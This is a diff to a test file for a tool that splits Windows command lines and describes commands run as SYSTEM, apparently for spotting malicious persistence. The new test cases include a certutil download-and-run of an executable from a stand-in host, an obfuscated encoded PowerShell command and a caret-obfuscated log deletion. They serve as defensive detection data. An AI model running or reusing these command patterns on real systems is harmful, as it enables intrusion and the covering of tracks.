@@ -186,6 +186,7 @@ test('a command is split as Windows does: quotes, escaped quotes, unquoted paths
   expect(splitCommand('C:\\Program Files\\Foo Bar\\a.exe -x')).toEqual({
     program: 'C:\\Program Files\\Foo Bar\\a.exe',
     arguments: ['-x'],
+    rest: '-x',
     unquotedSpaces: true,
   })
   expect(splitCommand('"C:\\a b\\c.exe" /q')?.unquotedSpaces).toBe(false)
@@ -229,6 +230,19 @@ test.each([
   [
     script("For Each p In q\np.Terminate\nNext ' TargetEvent.ProcessID"),
     'runs a VBScript as SYSTEM that terminates the process that was just started',
+  ],
+  [
+    command('cmd /c certutil -urlcache -split -f http://a.example/x.exe %TEMP%\\x.exe & %TEMP%\\x.exe'),
+    'runs cmd as SYSTEM, which downloads hxxp[:]//a[.]example/x.exe and runs "%TEMP%\\x.exe"',
+  ],
+  [
+    command(`cmd /v:on /c "set a=po&&set b=wershell&&!a!!b! -enc ${wide('calc.exe')}"`),
+    'runs cmd as SYSTEM, which runs a hidden command that is "calc.exe"',
+  ],
+  [command('c^m^d /c d^el /q C:\\Logs\\a.log 2>&1'), 'runs cmd as SYSTEM, which deletes C:\\Logs\\a.log'],
+  [
+    script('Set s = CreateObject("WScript.Shell")\ns.Run """C:\\Tools\\a.exe"" /x"'),
+    'runs a VBScript as SYSTEM that starts C:\\Tools\\a.exe',
   ],
   [script('MsgBox 1'), 'runs a VBScript as SYSTEM: "MsgBox 1"'],
   [
